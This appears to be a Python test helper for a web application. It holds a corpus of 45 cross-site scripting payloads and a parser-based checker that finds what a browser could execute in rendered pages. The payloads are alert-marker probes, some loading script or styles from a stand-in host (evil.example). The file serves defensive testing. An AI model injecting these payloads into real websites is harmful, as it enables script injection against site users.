"""A corpus of cross-site scripting payloads and a checker for "no executable vector".

Shared by the XSS tests of every input road: the update form and the admin
(tests/test_security_xss.py, tests/browser/test_xss.py) and the bulk import (#7).

Every payload calls ``alert(N)``/``confirm(N)``/``prompt(N)`` (or loads a URL),
so a browser test sees a dialog if one ever runs. ``assert_no_executable_vector``
holds whether a page escapes a value or sanitises it (nh3, tracker/richtext.py):
it looks for what a browser would run, not for the payload's text.
"""

from html.parser import HTMLParser

PAYLOADS: list[str] = [
    # Script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    '"><script>alert(4)</script>',
    "</textarea><script>alert(5)</script>",
    "</title><script>alert(6)</script>",
    "<script>/*</script><img src=x onerror=alert(7)>*/</script>",
    # Event handlers
    "<img src=x onerror=alert(8)>",
    '<img src="x" onerror="alert(9)">',
    "<body onload=alert(10)>",
    '<div onmouseover="alert(11)">hover</div>',
    "<input autofocus onfocus=alert(12)>",
    "<details open ontoggle=alert(13)>",
    "<video><source onerror=alert(14)></video>",
    "<marquee onstart=alert(15)>x</marquee>",
    "' onmouseover='alert(16)' x='",
    '" onfocus="alert(17)" autofocus x="',
    # javascript: and data: URLs
    '<a href="javascript:alert(18)">click</a>',
    '<a href="JaVaScRiPt:alert(19)">click</a>',
    '<a href="jav&#x09;ascript:alert(20)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(21)">click</a>',
    '<a href=" javascript:alert(22)">click</a>',
    '<form action="javascript:alert(23)"><button>go</button></form>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyNCk8L3NjcmlwdD4=">click</a>',
    # SVG and MathML
    "<svg onload=alert(25)>",
    "<svg><script>alert(26)</script></svg>",
    '<svg><a xlink:href="javascript:alert(27)"><text x="20" y="20">x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(28)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(29)></style></mglyph></table></mtext></math>",
    # Frames, objects, embeds, base, meta
    '<iframe src="javascript:alert(30)"></iframe>',
    '<iframe srcdoc="<script>alert(31)</script>"></iframe>',
    '<object data="javascript:alert(32)"></object>',
    '<embed src="javascript:alert(33)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(35)">',
    # Styles and encodings
    '<div style="background:url(javascript:alert(36))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "&lt;script&gt;alert(38)&lt;/script&gt;",
    "%3Cscript%3Ealert(39)%3C/script%3E",
    "\\u003cscript\\u003ealert(40)\\u003c/script\\u003e",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(41)>",
    '<!--<img src="--><img src=x onerror=alert(42)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(43)>">',
    "{{ 7*7 }}{% debug %}<img src=x onerror=alert(44)>",
    '<a href="https://ok.example/" onclick="alert(45)">link</a>',
]

# Attributes whose value a browser treats as a URL (or, for SVG animation, may set one).
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcdoc"}
_ANIMATION_ATTRIBUTES = {"values", "to", "from", "by"}
_DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "data:image/svg")
_DANGEROUS_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal"}


def _normalised(value: str) -> str:
    """A URL as a browser reads it: leading spaces, tabs, newlines and controls ignored."""
    return "".join(ch for ch in value if ord(ch) > 32).lower()


class _VectorFinder(HTMLParser):
    def __init__(self, allowed_script_prefixes):
        super().__init__(convert_charrefs=True)
        self.allowed_script_prefixes = allowed_script_prefixes
        self.vectors: list[str] = []
        self._inline_script = False
        self._script_text = ""

    def handle_starttag(self, tag, attrs):
        attributes = [(name.lower(), value or "") for name, value in attrs]
        values = dict(attributes)
        if tag == "script":
            src = values.get("src")
            if src is None:
                kind = values.get("type", "").lower()
                # A JSON data block (Django's json_script, the admin's) is never executed.
                self._inline_script = kind not in ("application/json",)
                self._script_text = ""
            elif not src.startswith(self.allowed_script_prefixes):
                self.vectors.append(f"<script src={src!r}>")
        if tag in _DANGEROUS_TAGS:
            self.vectors.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in values:
            self.vectors.append(f"<meta http-equiv={values['http-equiv']!r}>")
        if (
            tag == "link"
            and values.get("rel", "").lower() in ("import", "stylesheet")
            and not values.get("href", "").startswith(self.allowed_script_prefixes)
        ):
            self.vectors.append(f"<link rel={values.get('rel')!r} href={values.get('href')!r}>")
        for name, value in attributes:
            if name.startswith("on"):
                self.vectors.append(f"<{tag} {name}={value!r}>")
            elif name in _URL_ATTRIBUTES and _normalised(value).startswith(_DANGEROUS_SCHEMES):
                self.vectors.append(f"<{tag} {name}={value!r}>")
            elif name in _ANIMATION_ATTRIBUTES and "javascript:" in _normalised(value):
                self.vectors.append(f"<{tag} {name}={value!r}>")
            elif name == "style" and ("javascript:" in _normalised(value) or "expression(" in _normalised(value)):
                self.vectors.append(f"<{tag} style={value!r}>")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self._inline_script = False

    def handle_endtag(self, tag):
        if tag == "script":
            if self._inline_script and self._script_text.strip():
                self.vectors.append(f"inline <script>{self._script_text.strip()[:80]}</script>")
            self._inline_script = False

    def handle_data(self, data):
        if self._inline_script:
            self._script_text += data


def executable_vectors(html: str, allowed_script_prefixes: tuple[str, ...] = ("/static/", "/admin/jsi18n/")):
    """What in ``html`` a browser could run: inline scripts, scripts from elsewhere, on*
    handlers, javascript:/data: URLs, frames, objects, embeds, <base>, <meta http-equiv>."""
    finder = _VectorFinder(allowed_script_prefixes)
    finder.feed(html)
    finder.close()
    return finder.vectors


def assert_no_executable_vector(html: str, payloads=PAYLOADS, *, where: str = "") -> None:
    """Fail, naming the vectors and the payloads they came from, if ``html`` could run script."""
    vectors = executable_vectors(html)
    if vectors:
        suspects = [p for p in payloads if any(_marker(p) and _marker(p) in v for v in vectors)]
        raise AssertionError(f"executable vectors {where}: {vectors}; from payloads: {suspects}")


def _marker(payload: str) -> str:
    """The payload's number, e.g. "(18)", which its vector carries."""
    start = payload.rfind("(")
    end = payload.find(")", start)
    return payload[start : end + 1] if 0 <= start < end else ""
